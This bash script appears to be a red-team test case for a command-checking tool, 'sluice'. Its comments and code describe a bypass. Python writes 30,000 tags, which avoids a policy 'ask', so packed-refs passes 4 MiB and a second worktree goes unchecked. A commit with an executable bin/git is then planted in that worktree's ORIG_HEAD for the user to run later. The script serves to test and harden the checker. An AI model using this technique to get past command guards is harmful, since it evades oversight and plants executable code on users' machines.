#!/usr/bin/env bash
# red team 49: the user's other worktree skipped by the check because its
# branch cannot be read. git-later-pointers.c takes a worktree as a site
# only when its HEAD reads "as git writes it" (add_other(): "no HEAD ...
# nothing of it is rewritten"); git-later-refs.c reads a branch that is
# not loose from packed-refs, and gives up past 4 MiB (ok false). Run 1
# makes 30,000 tags with long names and packs every ref (`git pack-refs
# --all`): packed-refs grows past 4 MiB and w2's branch `feature` is now
# only there. Run 2 (a later command) writes its commit (feature's tree
# plus an executable bin/git: git objects only) into w2's ORIG_HEAD: w2
# is no site, nothing is checked there, nothing said. The user's `git
# reset --hard ORIG_HEAD` in w2 writes bin/git, and `git status` there
# with direnv's PATH_add bin runs it. (A user's large repository, whose
# packed-refs is past 4 MiB on its own, needs only run 2.)
# usage: 49-w2-packed-refs.sh /path/to/sluice   (as root or a user)
NAME=w2-packed-refs
HOLE="packed-refs past 4 MiB: w2's HEAD not read, w2 no site of the check; its ORIG_HEAD named the command's commit; the user's git reset --hard ORIG_HEAD in w2 wrote bin/git, git status ran it"
. "$(dirname "$0")/49-lib.sh"
setup() { new_repo "$1/main" && git -C "$1/main" worktree add -q "$1/w2" -b feature; }
run_dir() { echo "$1/main"; }
attack() {
  # the tags written as loose refs by python (git update-ref --stdin is
  # an ask of the git_discard policy), then packed by git
  cat <<'EOA'
G='env PATH=/usr/bin:/bin git' && h=$($G rev-parse HEAD) &&
python3 -c 'import sys; [open(".git/refs/tags/release-candidate-build-artifact-%0120d" % i, "w").write(sys.argv[1] + "\n") for i in range(30000)]' $h &&
$G pack-refs --all && ls -l .git/packed-refs
EOA
}
attack2() { plant "$1" feature; echo "&& echo \$C >.git/worktrees/w2/ORIG_HEAD"; }
trigger() { git -C "$1/w2" reset -q --hard ORIG_HEAD >/dev/null 2>&1; user_status "$1/w2"; }
finish
